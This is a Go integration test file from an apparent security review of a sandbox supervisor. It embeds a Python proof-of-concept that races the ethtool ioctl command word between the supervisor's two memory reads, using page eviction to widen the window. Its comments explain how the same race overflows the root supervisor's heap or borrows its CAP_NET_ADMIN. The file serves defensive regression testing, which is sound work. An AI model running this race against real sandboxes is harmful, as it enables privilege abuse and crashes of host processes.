package integration

// Repro tests from review 43 (branch rv43), an outside security review of
// the fixes since bb453b9: the supervisor's emulation of socket device
// ioctls (pkg/notify/ioctl.go), the store checker's page buffers, the
// notepad's measured list, the mcp token and audit hiding, and the
// streamed audit redaction. Each TestReview43* here FAILS on purpose on
// the code reviewed and passes once its finding is fixed. Only loopback
// and the sandbox's own namespaces are used; the Python probes assume a
// 64-bit ABI (struct ifreq's ifr_data as "16sQ").

import (
	"strings"
	"testing"
	"time"
)

// ethtoolSwapPy races the ethtool command word under the supervisor's two
// reads of it. argv: seconds to try, a scratch file in a writable
// directory. It prints "tries N" and "swapped yes" as soon as one call was
// answered with ETHTOOL_GFEATURES' reply (a command the supervisor's list
// does not hold), else "swapped no".
//
// Layout: the command word is the last 4 bytes of a shared anonymous
// page, which a forked child flips between ETHTOOL_GDRVINFO (allowed,
// 196 bytes) and ETHTOOL_GFEATURES; the next page is a private mapping
// of a file whose page cache is dropped before each call. The
// supervisor's first read (4 bytes) touches the first page only; its
// second (196 bytes) must fault the file page in from disk first, and
// process_vm_readv copies nothing before every page is pinned, so the
// word it copies is the one of microseconds to milliseconds later.
// GFEATURES with size 0 writes its 8-byte header only (cmd 0x3a, size =
// ETHTOOL_DEV_FEATURE_WORDS, 2): inside the 196-byte buffer, and tells
// the reply apart from GDRVINFO's (which writes 0 or a driver name at
// that offset).
const ethtoolSwapPy = `
import ctypes, errno, fcntl, mmap, os, socket, struct, sys, time
SIOCETHTOOL, GDRVINFO, GFEATURES = 0x8946, 0x03, 0x3a
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
PG = mmap.PAGESIZE
base = libc.mmap(None, 2*PG, 3, 0x01|0x20, -1, 0)      # PROT_RW, MAP_SHARED|MAP_ANONYMOUS
with open(sys.argv[2], "wb") as f:
    f.write(b"\0" * PG); f.flush(); os.fsync(f.fileno())
fd = os.open(sys.argv[2], os.O_RDONLY)
if libc.mmap(base+PG, PG, 3, 0x02|0x10, fd, 0) != base+PG:  # MAP_PRIVATE|MAP_FIXED
    raise SystemExit("mmap")
addr = base + PG - 4
cmd = ctypes.c_uint32.from_address(addr)
size = ctypes.c_uint32.from_address(addr + 4)
stop = ctypes.c_uint32.from_address(base)
cmd.value = GDRVINFO
pid = os.fork()
if pid == 0:
    while stop.value == 0:
        cmd.value = GFEATURES
        cmd.value = GDRVINFO
    os._exit(0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
req = struct.pack("16sQ16x", b"lo", addr)
deadline = time.time() + float(sys.argv[1])
n, swapped = 0, False
while time.time() < deadline and not swapped:
    libc.madvise(base+PG, PG, 4)                             # MADV_DONTNEED
    os.posix_fadvise(fd, 0, PG, os.POSIX_FADV_DONTNEED)
    size.value = 0x55555555
    n += 1
    try:
        fcntl.ioctl(s, SIOCETHTOOL, req)
        swapped = size.value == 2
    except OSError:
        pass
stop.value = 1
os.waitpid(pid, 0)
print("tries", n, flush=True)
print("swapped", "yes" if swapped else "no", flush=True)
`

// TestReview43EthtoolCommandSwappedBetweenReads (HIGH: memory corruption
// of the supervisor, a host process, root when nsbox runs as root, from
// any command in the default configuration: --net none or a filtered
// network; and a confused deputy: ethtool sets made with the
// supervisor's CAP_NET_ADMIN over the sandbox's namespace).
//
// What breaks: Server.ethtool (pkg/notify/ioctl.go) reads the command
// word at ifr_data (4 bytes), looks its size up in ethtoolReads, then
// reads that many bytes from the same address again, and hands that
// second copy to the kernel. The kernel's dev_ethtool takes the command
// from the copy, not from the first read: another thread (or process
// sharing the page) that changes the word between the two reads makes
// the supervisor run any ethtool command on a 8- to 196-byte Go heap
// buffer. ETHTOOL_GSTRINGS with string_set ETH_SS_FEATURES (answered by
// every device, lo included, without a driver callback) then writes
// 12 + 32 * NETDEV_FEATURE_COUNT (~2 KiB) bytes into that buffer: a heap
// overflow in the supervisor. Tried by hand as root: the supervisor died
// with "unexpected fault address 0x0 / fatal error: fault" in
// Server.getfd on the next notification (heap corrupted), i.e. any
// sandboxed command can crash `nsbox mcp --http` and every session it
// serves, and corrupts a root process's heap with kernel-chosen bytes.
// Swapping to a set (ETHTOOL_SGRO, ETHTOOL_SFEATURES, ...) instead has the
// kernel check CAP_NET_ADMIN against the supervisor's credentials, which
// own the sandbox's user namespace: the command changes its lo's
// features with a privilege it lacks (the very reason the list exists).
// The race is easy to win: the second read is 196 bytes and may cross
// into a page that has to be faulted in from disk first (dropped with
// posix_fadvise), which holds the window open for as long as the read
// takes.
//
// Attack: a command maps the ifr_data word at the end of a page followed
// by an evicted file page, flips the word between GDRVINFO and
// GSTRINGS/GFEATURES/a set in a second process, and calls
// ioctl(SIOCETHTOOL) on a socket of its own. This test swaps in
// ETHTOOL_GFEATURES with size 0 (8 bytes written, inside the buffer, so
// the supervisor survives) and fails when its reply comes back.
//
// Fix: read the ifreq's ifr_data buffer once, of the largest size any
// allowed command needs (or read the command, then the buffer, and take
// the command from the buffer that is handed to the kernel, refusing
// when it is not the one whose size was read), and make the
// kernel's ioctl on a buffer whose command the supervisor checked in
// that very buffer.
func TestReview43EthtoolCommandSwappedBetweenReads(t *testing.T) {
	requirePython(t)
	eachUser(t, func(t *testing.T, u user) {
		ws := u.tempDir(t)
		r := u.run(t, &runOpts{dir: ws, timeout: 3 * time.Minute}, "run", "--", "/usr/bin/python3", "-c", ethtoolSwapPy, "10", ws+"/page") // 10 s of tries: the old code lost within a few hundred
		t.Logf("--net none: %s", strings.ReplaceAll(strings.TrimSpace(r.stdout), "\n", "; "))
		res := netResults(r.stdout)
		if _, ok := res["swapped"]; !ok {
			t.Fatalf("control: the probe did not run (exit %d)\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
		}
		if res["swapped"] == "yes" {
			t.Errorf("--net none: the supervisor ran ETHTOOL_GFEATURES, a command outside its list, after %s tries: it checks the command word of its first read of ifr_data and hands the kernel a second read of it, which another process of the sandbox changed in between (ETHTOOL_GSTRINGS the same way overflows the supervisor's heap by ~2 KiB)", res["tries"])
		}
	})
}
